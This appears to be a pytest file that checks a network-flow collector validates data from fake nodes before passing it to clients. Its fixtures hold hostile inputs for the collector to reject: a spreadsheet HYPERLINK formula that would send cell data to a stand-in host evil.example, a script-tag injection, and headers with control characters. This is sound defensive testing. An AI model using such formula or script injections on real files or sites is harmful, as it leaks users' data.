"""What a node sends is checked before it reaches a client (collector under gunicorn, fake nodes)."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
import requests

from pcapgen import ether, pcap_bytes, tcp
from tests.collector.live import WrongServer, log_count, newest_log_row
from tests.collector.test_live import ANALYST, live_collector

pytestmark = pytest.mark.slow

WINDOW = {"start_time": "2023-11-14T22:13:00Z", "end_time": "2023-11-14T22:14:00Z"}
ROW = {
    "proto": 6,
    "src_addr": "10.0.0.1",
    "src_port": 1234,
    "dst_addr": "10.0.0.2",
    "dst_port": 80,
    "community_id": "1:" + "A" * 27 + "=",
    "first": "2023-11-14T22:13:20.000000001Z",
    "last": "2023-11-14T22:13:21Z",
    "packets": 3,
    "bytes": 180,
}
NODE_WINDOW = {"start": "2023-11-14T22:13:00Z", "end": "2023-11-14T22:14:00Z"}
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
HOSTILE_ROWS = [
    {**ROW, "src_addr": FORMULA},
    {**ROW, "injected": "<script>alert(1)</script>"},
    {**ROW, "packets": "3"},
]


def flows_body(rows: list[dict]) -> bytes:
    return json.dumps({"window": NODE_WINDOW, "flows": rows, "truncated": False, "failed": {}}).encode()


@pytest.fixture
def servers() -> Iterator[dict[str, WrongServer]]:
    pcap = pcap_bytes([(1_700_000_000 * 10**9, ether(tcp("10.0.0.1", 1234, "10.0.0.2", 80, b"x")))])
    bad_headers = {"X-PAR-Window": "2023\x01\x1b[31m", "X-PAR-Damaged": "pcap.1\x7f", "Content-Length": "x"}
    made = {
        "hostile_rows": WrongServer(200, flows_body(HOSTILE_ROWS[:1]), "application/json"),
        "extra_key": WrongServer(200, flows_body(HOSTILE_ROWS[1:2]), "application/json"),
        "string_count": WrongServer(200, flows_body(HOSTILE_ROWS[2:]), "application/json"),
        "good_rows": WrongServer(200, flows_body([ROW]), "application/json"),
        "bad_headers": WrongServer(200, pcap, "application/vnd.tcpdump.pcap", bad_headers),
    }
    yield made
    for server in made.values():
        server.close()


def test_a_nodes_rows_and_headers_are_checked_and_every_answer_logged(tmp_path, servers):
    names = ["hostile_rows", "extra_key", "string_count", "good_rows", "bad_headers"]
    nodes = {str(i): servers[name].address for i, name in enumerate(names, 1)}
    with live_collector(tmp_path, nodes, {ANALYST: list(nodes)}, PAR_KEY_STREAMS="1") as (collector, url, _):

        def get(path: str, **params: str) -> requests.Response:
            query = {**WINDOW, **params, "api_key": ANALYST}
            return requests.get(f"{collector.url}{path}", query, timeout=20)

        listing = get("/flows", node_id="1,2,3,4")
        sheet = get("/flows", node_id="1,2,3,4", output="csv")
        alone = get("/flows", node_id="1")
        before = log_count(url)
        downloads = [get("/data.pcap", node_id="5") for _ in range(2)]
        row = newest_log_row(url, "status, bytes_sent, error", before)
    assert listing.status_code == 200
    body = listing.json()
    assert body["flows"] == [{"node": "4", **ROW}]
    assert body["failed"] == {"1": "unreachable", "2": "unreachable", "3": "unreachable"}
    assert sheet.status_code == 200 and "HYPERLINK" not in sheet.text
    assert sheet.headers["Content-Disposition"] == 'attachment; filename="flows.csv"'
    assert sheet.text.splitlines()[1].startswith("4,6,10.0.0.1,1234,")
    assert alone.status_code == 502 and "malformed row" in alone.json()["error"]
    # A control character in a node's header: the header is left out, the download goes through,
    # its row is written and its slot given back (PAR_KEY_STREAMS=1 lets the second one run).
    assert [d.status_code for d in downloads] == [200, 200]
    assert downloads[0].content == downloads[1].content and len(downloads[0].content) > 24
    assert "X-PAR-Damaged" not in downloads[0].headers
    assert downloads[0].headers["X-PAR-Window"].startswith("2023-11-14T22:13:00")  # the collector's own
    assert row[0] == 200 and row[2] == ""
